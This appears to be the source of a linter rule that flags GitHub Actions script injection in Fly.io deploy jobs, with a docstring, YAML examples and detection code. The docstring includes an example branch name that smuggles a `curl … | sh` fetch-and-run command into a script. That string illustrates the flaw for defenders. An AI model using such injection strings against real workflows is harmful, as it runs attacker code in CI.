"""Pull request text or a free-text input is pasted into a script of a Fly.io job.

## What it does
Reports a `${{ … }}` expression in a `run:` script (or in `actions/github-script`'s `script:`)
of a job that deploys to Fly.io or can read the Fly.io token, when the value is:

- a pull request's title, body or branch name (`github.head_ref`,
  `github.event.pull_request.head.ref`, `…title`, `…body`), a review or review-comment body,
  under `pull_request`, `pull_request_review` or `pull_request_review_comment` only (or in a
  reusable workflow, whose caller's event is unknown);
- a `workflow_dispatch` input declared as free text (`type: string`, or no type).
  `boolean`, `number`, `choice` and `environment` inputs cannot carry code and are not
  reported.

The same expression under a trigger that hands the repository's secrets to outsiders
(`pull_request_target`, `issue_comment` …) is GHA009 (error).

## Why is this bad?
GitHub pastes the value into the script before the shell reads it, so a quote, `$(…)` or a
backtick in it runs as code. Pull requests from forks run without the repository's secrets, so
this does not hand out the Fly.io token by itself, but a branch named `a";curl${IFS}x|sh;"` still
runs in the job (and the same line becomes an error-level hole the day the workflow gains
`pull_request_target`). A dispatch input typed by a maintainer breaks the deploy on its first
quote. Passing the value through `env:` costs nothing.

## Severity
Warning: pull request text or free-text input pasted into a script is injectable; who can
supply it depends on the trigger and repository settings, so not an error.

## Example
```yaml
on: pull_request
jobs:
  preview:
    steps:
      - run: flyctl deploy --app "pr-${{ github.event.number }}" --env BRANCH=${{ github.head_ref }}
```

Use instead:
```yaml
      - run: flyctl deploy --app "pr-${{ github.event.number }}" --env "BRANCH=$HEAD_REF"
        env:
          HEAD_REF: ${{ github.head_ref }}
```

## Fix safety
No fix: the variable has to be named and quoted where the script uses it.

## References
- GitHub Docs, "Security hardening for GitHub Actions", good practices for mitigating script injection attacks: https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#good-practices-for-mitigating-script-injection-attacks
- zizmor `template-injection`
- CWE-78: OS Command Injection
"""

from __future__ import annotations

from collections.abc import Iterator

from flylint.linter.model import Violation
from flylint.linter.parsers.workflow import Workflow
from flylint.linter.registry import RuleContext, rule
from flylint.rules.workflow._fly import fly_jobs
from flylint.rules.workflow._injection import injections, message


@rule(code="GHA010", name="risky-expression-in-run", target="workflow", severity="warning",
      tags=("security", "injection"), cwe=(78,), controls=("SOC2-CC8.1",))
def check(wf: Workflow, ctx: RuleContext) -> Iterator[Violation]:
    if not fly_jobs(wf):
        ctx.not_applicable("no job that deploys to Fly.io or reads its token")
        return
    for inj in injections(wf):
        if inj.kind == "unprivileged":
            yield Violation(wf.source.span(inj.start, inj.end), message(inj, privileged=False))
